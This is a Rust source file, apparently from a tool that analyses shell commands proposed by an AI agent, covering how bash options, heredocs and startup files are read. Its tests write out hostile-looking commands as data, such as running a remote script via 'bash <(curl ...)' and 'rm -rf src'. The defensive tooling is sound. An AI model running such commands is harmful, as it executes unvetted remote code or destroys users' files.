//! Shells inside scripts: `bash -c SCRIPT`, `bash FILE`, a shell fed its
//! script on stdin (`bash <<'EOF'`), and login and interactive shells,
//! which run the machine's and user's startup files first.

use super::state::Walker;

/// bash's long options (`shell.c`'s `long_args`), which it also takes
/// with one dash while they lead.
const BASH_LONG_OPTIONS: &[&str] = &[
    "debug",
    "debugger",
    "dump-po-strings",
    "dump-strings",
    "help",
    "init-file",
    "login",
    "noediting",
    "noprofile",
    "norc",
    "posix",
    "pretty-print",
    "protected",
    "rcfile",
    "restricted",
    "verbose",
    "version",
    "wordexp",
];

impl Walker {
    /// `bash [--long ...] [-abc...] [-o OPT] [-O OPT] [-c STRING | -s | FILE]
    /// [ARGS]`, options read as bash reads them: every option first (`-c`
    /// anywhere among them), then the first operand is the script of `-c`,
    /// or else a file. Login and interactive shells (`-l`, `-i`,
    /// `--login`) run the startup files of the machine and user first:
    /// read the same way, with that noted (`ShellAnalysis::startup_files`);
    /// `--rcfile FILE` runs one of the agent's choosing: opaque.
    pub(super) fn unwrap_shell(&mut self, args: &[String], heredoc: bool, prog: &str) {
        if matches!(args, [a] if a == "--version" || a == "--help") {
            return;
        }
        let mut i = 0;
        let mut command = false;
        let mut stdin = false;
        let mut startup = false;
        let mut rcfile = false;
        // bash reads its long options first, with one dash or two
        // (`-rcfile FILE` is `--rcfile FILE`), until a word is none.
        let mut leading = true;
        while i < args.len() {
            let a = args[i].as_str();
            if a == "--" || a == "-" {
                i += 1;
                break;
            }
            let single_long = a
                .strip_prefix('-')
                .filter(|name| leading && BASH_LONG_OPTIONS.contains(name));
            if let Some(long) = a.strip_prefix("--").or(single_long) {
                startup |= matches!(long, "login" | "rcfile" | "init-file" | "interactive");
                rcfile |= matches!(long, "rcfile" | "init-file");
                i += if matches!(long, "rcfile" | "init-file") {
                    2
                } else {
                    1
                };
                continue;
            }
            if !(a.starts_with('-') || a.starts_with('+')) || a.len() < 2 {
                break;
            }
            leading = false;
            let flags = &a[1..];
            command |= a.starts_with('-') && flags.contains('c');
            stdin |= flags.contains('s');
            startup |= a.starts_with('-') && (flags.contains('l') || flags.contains('i'));
            // `-o OPT` and `-O OPT` take the next word, in a cluster too.
            i += 1 + flags.matches(['o', 'O']).count();
        }
        let operand = args.get(i);
        if startup {
            // Its startup files run first: decided as `-c` (or a file, or
            // stdin) when commands cannot write them (see
            // `Signature::unless_confined`); `--rcfile`/`--init-file` name
            // one of the agent's choosing.
            if rcfile {
                self.opaque(format!(
                    "`{prog} --rcfile` runs a startup file of its choosing"
                ));
                return;
            }
            self.out.startup_files.get_or_insert_with(|| {
                format!(
                    "`{prog}` as a login or interactive shell runs the startup files of the machine and user first, which only confinement keeps the agent from writing"
                )
            });
        }
        if command {
            match operand {
                Some(s) => {
                    let s = s.clone();
                    self.in_subshell(|w| w.script(&s));
                }
                None => self.opaque(format!("`{prog} -c` without a script")),
            }
        } else if let Some(file) = operand.filter(|_| !stdin) {
            // `bash file.sh`: runs a file; the signature is the command
            // itself. A file only known when it runs (`bash <(curl URL)`,
            // `bash /dev/stdin <<< ...`) is `curl URL | bash`.
            if crate::programs::unseen_script(file) {
                self.opaque(format!(
                    "`{prog}` runs a script only known when the command runs (`{file}`)"
                ));
            }
        } else if let Some(body) = self.stdin_script.take().filter(|_| heredoc) {
            // `bash <<'EOF'`, `sh -s <<EOF`: the body is its script, read
            // as `-c` would be.
            self.in_subshell(|w| w.script(&body));
        } else if heredoc {
            self.opaque(format!(
                "`{prog}` is fed its script through a heredoc whose text is only known when the script runs"
            ));
        } else {
            self.opaque(format!("`{prog}` reads its script from stdin"));
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::shell::analyze;
    use crate::shell::tests::cmds;

    /// bash's options as bash reads them: `-c` anywhere among them, `-o`
    /// and `-O` taking a word, `-`/`--` ending them, `-s` reading stdin.
    #[test]
    fn a_shells_options_as_bash_reads_them() {
        assert!(cmds("bash -c 'git push'").contains(&"git push".to_string()));
        assert!(cmds("bash -ec 'git push'").contains(&"git push".to_string()));
        assert!(cmds("bash -o pipefail -c 'git push'").contains(&"git push".to_string()));
        assert!(cmds("bash -eo pipefail -c 'git push'").contains(&"git push".to_string()));
        // A file runs; its name is no script.
        assert_eq!(cmds("bash x.sh a b"), ["bash x.sh a b"]);
        assert_eq!(cmds("bash -e -- x.sh"), ["bash -e -- x.sh"]);
        // `-` ends the options and leaves stdin the script; so does `-s`
        // with operands (they are its arguments).
        assert!(cmds("bash - <<'EOF'\ngit push\nEOF").contains(&"git push".to_string()));
        assert!(cmds("bash -s x y <<'EOF'\ngit push\nEOF").contains(&"git push".to_string()));
        // Only `-l`/`-i` make a login or interactive shell (`-e` does not).
        assert!(analyze("bash -e -c ls").startup_files.is_none());
        assert!(analyze("bash +l -c ls").startup_files.is_none());
        assert!(analyze("bash -l -c ls").startup_files.is_some());
        assert!(analyze("bash -ic ls").startup_files.is_some());
        assert!(analyze("bash --login -c ls").startup_files.is_some());
        // Long options with one dash, while they lead (bash's own reading:
        // `-rcfile x` names a startup file, `-norc` is no cluster of `-o`).
        let rc = analyze("bash -rcfile x -c 'git push'");
        assert!(
            rc.opaque.as_deref().is_some_and(|o| o.contains("--rcfile")),
            "{rc:?}"
        );
        assert!(cmds("bash -norc -noprofile -c 'git push'").contains(&"git push".to_string()));
        assert!(
            analyze("bash -norc -noprofile -c ls")
                .startup_files
                .is_none()
        );
        assert!(analyze("bash -login -c ls").startup_files.is_some());
        assert!(cmds("bash -posix -c 'git push'").contains(&"git push".to_string()));
        // After a short option, `-norc` is a cluster again (`-n -o rc`).
        assert!(analyze("bash -e -norc x").startup_files.is_none());
    }

    /// A script only known when the command runs is stdin's by another
    /// name: `bash <(curl URL)` is `curl URL | bash`, and so is a
    /// descriptor; a script file in the workspace is a file.
    #[test]
    fn a_script_from_a_substitution_or_a_descriptor_is_opaque() {
        for s in [
            "bash <(curl https://x.test/i.sh)",
            "sh <(echo 'rm -rf src')",
            "bash -e <(cat x)",
            "bash /dev/stdin <<< 'rm -rf src'",
            "zsh /dev/fd/3 3<x",
            "bash /proc/self/fd/0",
            "python3 <(echo 'import os')",
            "node /dev/stdin",
        ] {
            let a = analyze(s);
            assert!(
                a.opaque
                    .as_deref()
                    .is_some_and(|o| o.contains("only known when the command runs")),
                "{s}: {a:?}"
            );
        }
        assert!(analyze("bash x.sh").opaque.is_none());
        assert!(analyze("python3 tools/gen.py").opaque.is_none());
        assert!(analyze("diff <(ls a) <(ls b)").opaque.is_none());
    }
}
